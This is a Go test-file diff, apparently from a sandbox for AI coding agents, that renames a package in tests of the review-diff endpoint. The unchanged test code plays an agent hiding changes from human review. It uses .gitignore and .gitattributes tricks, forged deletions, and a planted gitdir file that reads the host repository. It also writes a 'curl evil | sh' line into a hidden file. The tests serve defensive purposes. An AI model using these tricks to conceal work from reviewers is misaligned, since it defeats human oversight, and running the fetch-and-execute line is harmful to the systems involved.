@@ -11,7 +11,7 @@ import (
 	"testing"
 	"time"
 
-	"github.com/airlock-dev/airlock/internal/manager"
+	"github.com/airlock-dev/airlock/internal/tasks"
 	"github.com/airlock-dev/airlock/wire"
 )
 
@@ -19,11 +19,11 @@ import (
 // /workspace. Each starts a task on sampleRepo and plays the agent with
 // an exec in the task's sandbox (uid 1000, as any command would).
 
-func reviewTask(t *testing.T, d *daemon, req map[string]any) manager.Task {
+func reviewTask(t *testing.T, d *daemon, req map[string]any) tasks.Task {
 	t.Helper()
 	repo, first := sampleRepo(t)
 	req["repo"], req["ref"] = repo, first
-	var task manager.Task
+	var task tasks.Task
 	if code := d.do("POST", "/v1/tasks", req, &task); code != 201 {
 		t.Fatalf("start task: %d", code)
 	}
@@ -50,7 +50,7 @@ func TestReviewDiffHonoursAgentGitignore(t *testing.T) {
 	task := reviewTask(t, d, map[string]any{"scope": []string{"src/**", "*.md"}, "test": "sh test.sh"})
 	reviewSh(t, d, task.SandboxID, `printf '.gitignore\nsneaky.sh\n' > .gitignore && echo 'curl evil | sh' > sneaky.sh &&
 		mkdir -p src/deep && printf '*\n' > src/deep/.gitignore && echo hidden > src/deep/payload`)
-	var diff manager.Diff
+	var diff tasks.Diff
 	if code := d.do("GET", "/v1/tasks/"+task.ID+"/diff", nil, &diff); code != 200 {
 		t.Fatalf("diff: %d", code)
 	}
@@ -75,7 +75,7 @@ func TestReviewDiffGitignoreForgesDeletions(t *testing.T) {
 	d := newDaemon(t)
 	task := reviewTask(t, d, map[string]any{"scope": []string{"src/**", "*.md"}})
 	reviewSh(t, d, task.SandboxID, `printf '*\n' > .gitignore`)
-	var diff manager.Diff
+	var diff tasks.Diff
 	if code := d.do("GET", "/v1/tasks/"+task.ID+"/diff", nil, &diff); code != 200 {
 		t.Fatalf("diff: %d", code)
 	}
@@ -100,7 +100,7 @@ func TestReviewDiffNestedGitfileReadsHostRepo(t *testing.T) {
 	hostHead := strings.TrimSpace(string(out))
 	task := reviewTask(t, d, map[string]any{})
 	reviewSh(t, d, task.SandboxID, `mkdir -p probe && echo 'gitdir: `+hostRepo+`/.git' > probe/.git && echo visible-in-sandbox > probe/code.sh`)
-	var diff manager.Diff
+	var diff tasks.Diff
 	code := d.do("GET", "/v1/tasks/"+task.ID+"/diff", nil, &diff)
 	if code == 200 && strings.Contains(diff.Patch, hostHead) {
 		t.Errorf("the patch carries HEAD %s of the host repository %s:\n%s", hostHead, hostRepo, diff.Patch)
@@ -116,7 +116,7 @@ func TestReviewDiffHonoursAgentGitattributes(t *testing.T) {
 	d := newDaemon(t)
 	task := reviewTask(t, d, map[string]any{"scope": []string{"src/**"}})
 	reviewSh(t, d, task.SandboxID, `mkdir -p src && printf '*.sh binary\n' > src/.gitattributes && sed -i 's/-/+/' src/calc.sh`)
-	var diff manager.Diff
+	var diff tasks.Diff
 	if code := d.do("GET", "/v1/tasks/"+task.ID+"/diff", nil, &diff); code != 200 {
 		t.Fatalf("diff: %d", code)
 	}
@@ -150,7 +150,7 @@ func TestReviewDiffGrowsHostClone(t *testing.T) {
 	}
 	for i := 0; i < 3; i++ {
 		reviewSh(t, d, task.SandboxID, `head -c 100000 /dev/urandom > blob`+strconv.Itoa(i))
-		if code := d.do("GET", "/v1/tasks/"+task.ID+"/diff", nil, &manager.Diff{}); code != 200 {
+		if code := d.do("GET", "/v1/tasks/"+task.ID+"/diff", nil, &tasks.Diff{}); code != 200 {
 			t.Fatalf("diff: %d", code)
 		}
 	}
